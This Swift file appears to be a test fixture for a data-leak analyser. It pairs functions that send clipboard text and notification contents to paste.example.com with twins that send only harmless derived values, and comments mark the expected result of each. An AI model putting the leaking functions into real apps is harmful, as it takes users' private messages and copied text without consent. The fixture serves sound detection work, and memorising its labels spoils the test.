// What was copied or came as a notification, on the ways that lead from there.
import Foundation
import Network
import UIKit
import UserNotifications

final class Paste {
    func push() {
        guard let copied = UIPasteboard.general.string else { return }
        let short = copied.prefix(200)
        let data = Data(short.utf8)
        let connection = NWConnection(host: "paste.example.com", port: 9500, using: .tcp) // carries: messages | messages by local
        connection.send(content: data, completion: .idempotent)
    }

    func pushNothing() {
        guard let copied = UIPasteboard.general.string else { return }
        let long = copied.count > 200
        let data = Data((long ? "long" : "short").utf8)
        let connection = NWConnection(host: "paste.example.com", port: 9500, using: .tcp) // carries: nothing | messages by local
        connection.send(content: data, completion: .idempotent)
    }

    private func text(of content: UNNotificationContent) -> String {
        [content.title, content.body].joined(separator: " / ")
    }

    private func kind(of content: UNNotificationContent) -> String {
        content.body.hasSuffix("?") ? "question" : "statement"
    }

    func relay(_ notification: UNNotificationContent) {
        let connection = NWConnection(host: "paste.example.com", port: 9501, using: .tcp) // carries: messages | messages by result
        connection.send(content: text(of: notification).data(using: .utf8), completion: .idempotent)
    }

    func relayKind(_ notification: UNNotificationContent) {
        let connection = NWConnection(host: "paste.example.com", port: 9501, using: .tcp) // carries: nothing | messages by result
        connection.send(content: kind(of: notification).data(using: .utf8), completion: .idempotent)
    }

    func post(_ notification: UNNotificationContent) throws {
        var fields = [String: Any]()
        fields["body"] = notification.body
        fields["app"] = "mirror"
        var request = URLRequest(url: URL(string: "https://paste.example.com/in")!)
        request.httpMethod = "POST"
        request.httpBody = try JSONSerialization.data(withJSONObject: fields, options: [])
        URLSession.shared.dataTask(with: request).resume() // carries: messages | messages by body
    }

    func postApp(_ notification: UNNotificationContent) throws {
        var fields = [String: Any]()
        fields["body"] = notification.body
        fields.removeValue(forKey: "body")
        fields["app"] = "mirror"
        var request = URLRequest(url: URL(string: "https://paste.example.com/in")!)
        request.httpMethod = "POST"
        request.httpBody = try JSONSerialization.data(withJSONObject: fields, options: [])
        URLSession.shared.dataTask(with: request).resume() // carries: nothing | messages by body
    }

    func history(_ all: [UNNotificationContent]) {
        var subjects: [String: String] = [:]
        for one in all {
            subjects[one.threadIdentifier] = one.subtitle
        }
        let connection = NWConnection(host: "paste.example.com", port: 9502, using: .tcp) // carries: messages | messages by element
        for (_, subject) in subjects {
            connection.send(content: Data(subject.utf8), completion: .idempotent)
        }
    }

    func historyCount(_ all: [UNNotificationContent]) {
        var subjects: [String: String] = [:]
        for one in all {
            subjects[one.threadIdentifier] = one.subtitle
        }
        let connection = NWConnection(host: "paste.example.com", port: 9502, using: .tcp) // carries: nothing | messages by element
        for _ in subjects {
            connection.send(content: Data("one".utf8), completion: .idempotent)
        }
    }

    func later() {
        let copied = UIPasteboard.general.string ?? ""
        DispatchQueue.global().asyncAfter(deadline: .now() + 5) {
            let connection = NWConnection(host: "paste.example.com", port: 9503, using: .tcp) // carries: messages | messages by async
            connection.send(content: copied.data(using: .utf8), completion: .idempotent)
        }
    }

    func laterMark() {
        let copied = UIPasteboard.general.hasStrings
        DispatchQueue.global().asyncAfter(deadline: .now() + 5) {
            let connection = NWConnection(host: "paste.example.com", port: 9503, using: .tcp) // carries: nothing | messages by async
            connection.send(content: (copied ? "some" : "none").data(using: .utf8), completion: .idempotent)
        }
    }
}
